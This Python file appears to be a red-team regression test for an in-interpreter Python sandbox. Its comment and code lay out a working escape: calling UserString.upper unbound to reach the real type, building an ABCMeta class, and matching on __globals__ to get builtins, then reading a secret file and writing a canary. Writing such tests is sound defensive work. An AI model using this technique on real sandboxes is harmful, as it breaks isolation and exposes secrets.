# mypy: ignore-errors
# Technique: call a trusted class's public method unbound, with a class as `self`.
# `collections.UserString.upper(self)` returns `self.__class__(self.data.upper())`; with
# `self` a plugin class, `self.__class__` is its metaclass, the real `type`, and `self.data`
# is a class attribute whose `upper()` returns any object: the method returned the
# unguarded `type()` of it (likewise `ChainMap.new_child` called the real `type` with three
# arguments the class chose, and `enum.DynamicClassAttribute.getter` called `type(self)`).
# `type(collections.abc.Hashable)` is `abc.ABCMeta`, whose three-argument call built an ABC
# admitting any subject with `__match_args__ = ("__globals__",)`, and a class pattern over a
# host function read its globals (the real builtins). Found in the fourteenth red-team pass
# of the in-interpreter layer; was a real in-interpreter escape (3.11-3.13) before the fix:
# in the worker, every public method of a shared class whose code reads `__class__` or names
# `type` now runs only on a `self` whose class the guarded `type()` hands out.
import collections
import typing

from suaveplan import fs

U = "_" * 2


class Box:
    target = None

    def upper(self):
        return Box.target


class Holder:
    data = Box()


def type_of(obj):
    Box.target = obj
    return collections.UserString.upper(Holder)


def attack(secret_path, canary_path):
    try:
        meta = type_of(typing.get_origin(typing.Hashable))
    except Exception as exc:
        return repr(exc)[:160]
    hook = classmethod(lambda cls, c: True)
    namespace = {U + "match_args" + U: (U + "globals" + U,), U + "subclasshook" + U: hook}
    any_ = meta("Any", (), namespace)
    match fs.read_text:
        case any_(g):
            b = g["_b"]
            print("SANDBOX-" + "ESCAPED")
            out = [b.open(secret_path).read()]
            b.open(canary_path, "w").write("x")
            return out
    return "no match"
